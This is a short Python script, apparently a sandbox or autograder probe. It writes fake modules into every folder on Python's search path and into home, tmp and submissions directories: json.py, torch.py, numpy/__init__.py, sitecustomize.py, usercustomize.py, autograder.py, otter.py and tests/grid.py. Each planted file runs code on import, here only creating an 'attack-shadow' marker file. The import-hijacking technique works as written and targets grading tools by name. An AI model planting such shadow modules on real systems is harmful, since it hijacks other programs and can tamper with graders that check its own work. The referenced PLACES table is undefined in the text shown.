"""Write torch.py, otter.py, json.py, sitecustomize.py, d2lite.py and tests/ into every folder that Python looks in."""
import os, sys

code = "".join(f"open({place + '/attack-shadow'!r}, 'a').close()\n" for place in (PLACES["home"], PLACES["cwd"]))
for folder in {"", ".", os.getcwd(), PLACES["cwd"], PLACES["submissions"], PLACES["tmp"], PLACES["home"], *sys.path}:
    for name in ("torch.py", "otter.py", "json.py", "sitecustomize.py", "usercustomize.py", "d2lite.py", "autograder.py", "tests/grid.py", "numpy/__init__.py"):
        path = os.path.join(folder, name)
        if os.path.exists(path) and folder not in ("", ".", os.getcwd()):
            continue
        try:
            os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
            with open(path, "w") as file:
                file.write("try:\n    " + code.replace("\n", "\n    ") + "\nexcept OSError:\n    pass\n")
        except OSError:
            pass
